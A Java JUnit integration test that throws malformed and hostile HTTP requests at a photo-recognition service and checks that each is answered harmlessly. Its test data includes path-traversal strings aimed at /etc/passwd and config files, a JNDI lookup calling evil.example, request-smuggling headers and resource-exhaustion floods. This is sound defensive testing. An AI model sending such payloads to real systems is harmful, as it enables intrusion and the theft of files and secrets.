package dev.pomona.service.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pomona.service.Client;
import dev.pomona.service.Client.Reply;
import dev.pomona.service.HarmlessAnswer;
import dev.pomona.service.MultipartForm;
import dev.pomona.service.Pictures;
import dev.pomona.service.RunningService;
import java.nio.charset.StandardCharsets;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Requests that no honest client makes: each is answered harmlessly or dropped, and the next photo is recognised. */
@RunningService
class HostileHttpIT {

    private static final byte[] PHOTO = Pictures.jpeg(Pictures.ball());
    private static final String POST = "POST /recognize HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n";
    private static final String GET = "GET /fruits/orange HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n";

    @LocalServerPort
    private int port;

    private Client service;

    @BeforeEach
    void connect() {
        service = new Client(port);
    }

    @AfterEach
    void theNextPhotoIsRecognised() {
        assertThat(service.post("/recognize", "image/jpeg", PHOTO).status()).isEqualTo(200);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("requests")
    void requestsThatAreHardlyHttp(String name, String request) {
        service.raw(request.getBytes(StandardCharsets.ISO_8859_1))
                .ifPresent(reply -> HarmlessAnswer.check(name, reply));
    }

    static Stream<Arguments> requests() {
        return Stream.of(
                Arguments.of("no HTTP", "an orange, please\r\n\r\n"),
                Arguments.of(
                        "the beginning of TLS", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003"),
                Arguments.of("another protocol", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
                Arguments.of("another version", "GET / HTTP/9.9\r\nHost: localhost\r\n\r\n"),
                Arguments.of("no host", "GET /fruits/orange HTTP/1.1\r\nConnection: close\r\n\r\n"),
                Arguments.of("two hosts", GET + "Host: elsewhere.example\r\n\r\n"),
                Arguments.of("a host that is none", "GET / HTTP/1.1\r\nHost: a b[\r\nConnection: close\r\n\r\n"),
                Arguments.of("a long header", GET + "X-Long: " + "a".repeat(200_000) + "\r\n\r\n"),
                Arguments.of("a long name", GET + "a".repeat(200_000) + ": b\r\n\r\n"),
                Arguments.of("many headers", GET + headers(5000) + "\r\n"),
                Arguments.of("a header with a zero", GET + "X-Zero: a\u0000b\r\n\r\n"),
                Arguments.of("a header with controls", GET + "Accept-Language: \u0001\u0002\u007f\r\n\r\n"),
                Arguments.of("a header without a colon", GET + "nothing\r\n\r\n"),
                Arguments.of("a header with spaces", GET + "X Y : z\r\n\r\n"),
                Arguments.of("a folded header", GET + "X-Folded: a\r\n  b\r\n\r\n"),
                Arguments.of("bytes in a header", GET + "Accept-Language: \u00ff\u00fe\u0080\u0090\r\n\r\n"),
                Arguments.of("a language that is none", GET + "Accept-Language: %%;q=x,,;;q=9\r\n\r\n"),
                Arguments.of("an empty Accept", GET + "Accept: \r\n\r\n"),
                Arguments.of("an Accept without a charset", GET + "Accept: */*; charset=\r\n\r\n"),
                Arguments.of("an answer that is none", GET + "Accept: ;;;/,*\r\n\r\n"),
                Arguments.of(
                        "an absurd range", GET.replace("/fruits/orange", "/app.js") + "Range: bytes=9-1,x\r\n\r\n"),
                Arguments.of("many ranges", GET.replace("/fruits/orange", "/app.js") + ranges(2000) + "\r\n\r\n"),
                Arguments.of("an absurd expectation", POST + "Expect: the worst\r\nContent-Length: 3\r\n\r\nabc"),
                Arguments.of("a date that is none", GET + "If-Modified-Since: yesterday\r\nIf-None-Match: \"\r\n\r\n"),
                Arguments.of("a negative length", POST + "Content-Length: -1\r\n\r\nabc"),
                Arguments.of("a length that is none", POST + "Content-Length: many\r\n\r\nabc"),
                Arguments.of("an endless length", POST + "Content-Length: 99999999999999999999\r\n\r\nabc"),
                Arguments.of("a length that is never reached", POST + "Content-Length: 5000\r\n\r\nabc"),
                Arguments.of("two lengths", POST + "Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd"),
                Arguments.of("length and chunks", POST + "Content-Length: 3\r\n" + chunked("3\r\nabc\r\n0\r\n\r\n")),
                Arguments.of("an unknown encoding", POST + "Transfer-Encoding: gzip\r\n\r\nabc"),
                Arguments.of("an encoding that is none", POST + "Transfer-Encoding: xchunked\r\n\r\nabc"),
                Arguments.of("chunks of garbage", POST + chunked("zz\r\nabc\r\n")),
                Arguments.of("a negative chunk", POST + chunked("-3\r\nabc\r\n0\r\n\r\n")),
                Arguments.of("an endless chunk", POST + chunked("ffffffffffffffff\r\nabc")),
                Arguments.of("chunks without an end", POST + chunked("3\r\nabc\r\n")),
                Arguments.of("a chunk that is longer than it says", POST + chunked("1\r\nabc\r\n0\r\n\r\n")),
                Arguments.of("a long end of chunks", POST + chunked("0\r\nX: " + "a".repeat(100_000) + "\r\n\r\n")),
                Arguments.of(
                        "a content type that is none", POST + "Content-Type: ;;/=\r\nContent-Length: 3\r\n\r\nabc"),
                Arguments.of(
                        "a charset that is none",
                        POST + "Content-Type: text/plain; charset=\u00e9\r\nContent-Length: 3\r\n\r\nabc"),
                Arguments.of("a compressed body", POST + "Content-Encoding: gzip\r\nContent-Length: 3\r\n\r\nabc"),
                Arguments.of("an upgrade", GET.replace("close", "Upgrade") + "Upgrade: websocket\r\n\r\n"),
                Arguments.of("a forged address", GET + "X-Forwarded-For: '; DROP\r\nForwarded: for=\"_\r\n\r\n"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/../../etc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/..;/actuator/env",
                "/static/..%2f..%2fapplication.yaml",
                "/..%5c..%5capplication.yaml",
                "/application.yaml",
                "/%c0%ae%c0%ae/etc/passwd",
                "/fruits/..%00",
                "/fruits/%00",
                "/fruits/%ff%fe",
                "/fruits/%",
                "/fruits/%zz",
                "/fruits/${jndi:ldap://evil.example/a}",
                "/fruits/orange;a=b",
                "/recognize;jsessionid=1",
                "//fruits",
                "///",
                "/.",
                "/./fruits",
                "/fruits/./orange",
                "/a\\b",
                "/[",
                "/a b",
                "/WEB-INF/web.xml",
                "/META-INF/MANIFEST.MF",
                "/BOOT-INF/classes/application.yaml",
                "http://evil.example/fruits",
                "*",
                "fruits",
                "",
                "/fruits?lang=%00",
                "/fruits?lang=%zz&lang=",
                "/fruits?a\u0001=b",
                "/fruits?=&&=&;"
            })
    void pathsThatLeadNowhere(String target) {
        for (String method : new String[] {"GET", "POST", "DELETE", "OPTIONS", "TRACE"}) {
            String request = "%s %s HTTP/1.0\r\nHost: localhost\r\n\r\n".formatted(method, target);
            service.raw(request.getBytes(StandardCharsets.ISO_8859_1)).ifPresent(reply -> {
                HarmlessAnswer.check(request, reply);
                assertThat(reply.body()).doesNotContain("root:", "max-photo-size", "Main-Class");
            });
        }
    }

    @Test
    void aVeryLongPath() {
        String request = "GET /fruits/%s HTTP/1.0\r\nHost: localhost\r\n\r\n".formatted("a".repeat(100_000));
        service.raw(request.getBytes(StandardCharsets.US_ASCII))
                .ifPresent(reply -> HarmlessAnswer.check("a very long path", reply));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"GET", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "get", "ORANGE", "P\u00d6ST"})
    void methodsThatAreNotForPhotos(String method) {
        String request = method + " /recognize HTTP/1.0\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n";
        Reply reply = service.raw(request.getBytes(StandardCharsets.ISO_8859_1)).orElseThrow();
        HarmlessAnswer.check(method, reply);
        assertThat(reply.status()).isIn(400, 405);
    }

    @Test
    void headHasNoBodyAndOptionsNamesTheMethods() {
        assertThat(service.send("HEAD", "/fruits/orange").status()).isEqualTo(200);
        assertThat(service.send("HEAD", "/fruits/orange").body()).isEmpty();
        assertThat(service.send("HEAD", "/recognize").status()).isEqualTo(405);
        Reply options = service.send("OPTIONS", "/recognize");
        assertThat(options.status()).isEqualTo(200);
        assertThat(options.header("Allow")).contains("POST");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("forms")
    void formsThatNoBrowserSends(String name, String contentType, byte[] body) {
        Reply reply = service.post("/recognize", contentType, body);
        HarmlessAnswer.check(name, reply);
        assertThat(reply.status()).as(reply.body()).isBetween(400, 499);
    }

    static Stream<Arguments> forms() {
        String type = new MultipartForm().contentType();
        MultipartForm manyPhotos = new MultipartForm();
        MultipartForm manyFields = new MultipartForm();
        IntStream.range(0, 1000).forEach(i -> manyPhotos.file("photo", i + ".jpg", new byte[] {1}));
        IntStream.range(0, 1000).forEach(i -> manyFields.field("field" + i, "value"));
        MultipartForm inner = new MultipartForm().file("photo", "ball.jpg", PHOTO);
        String nested = "--b\r\nContent-Disposition: form-data; name=\"photo\"\r\nContent-Type: multipart/mixed;"
                + " boundary=c\r\n\r\n--c\r\nContent-Disposition: file; filename=\"a.jpg\"\r\n\r\nabc\r\n--c--\r\n--b--\r\n";
        String largeHead = "--b\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"" + "a".repeat(50_000)
                + "\"\r\n\r\nabc\r\n--b--\r\n";
        String manyHeads = "--b\r\n" + headers(5000) + "\r\nabc\r\n--b--\r\n";
        return Stream.of(
                Arguments.of("a thousand photos", type, manyPhotos.body()),
                Arguments.of("a thousand fields", type, manyFields.body()),
                Arguments.of(
                        "a form in a form",
                        type,
                        new MultipartForm().file("photo", "form", inner.body()).body()),
                Arguments.of("mixed in a form", "multipart/form-data; boundary=b", ascii(nested)),
                Arguments.of("a part with a large head", "multipart/form-data; boundary=b", ascii(largeHead)),
                Arguments.of("a part with many heads", "multipart/form-data; boundary=b", ascii(manyHeads)),
                Arguments.of("a long boundary", "multipart/form-data; boundary=" + "b".repeat(5000), inner.body()),
                Arguments.of("no boundary", "multipart/form-data", inner.body()),
                Arguments.of("no end", type, Pictures.firstHalf(inner.body())),
                Arguments.of("nothing but a boundary", "multipart/form-data; boundary=b", ascii("--b")),
                Arguments.of("a photo instead of a form", type, PHOTO),
                Arguments.of(
                        "another part",
                        type,
                        new MultipartForm().file("fruit", "a.jpg", PHOTO).body()),
                Arguments.of("another kind of form", "multipart/mixed; boundary=b", ascii(nested)));
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static String chunked(String body) {
        return "Transfer-Encoding: chunked\r\n\r\n" + body;
    }

    private static String headers(int count) {
        StringBuilder headers = new StringBuilder();
        IntStream.range(0, count)
                .forEach(i ->
                        headers.append("X-").append(i).append(": ").append(i).append("\r\n"));
        return headers.toString();
    }

    private static String ranges(int count) {
        StringBuilder ranges = new StringBuilder("Range: bytes=0-0");
        IntStream.range(1, count).forEach(i -> ranges.append(",0-0"));
        return ranges.toString();
    }
}
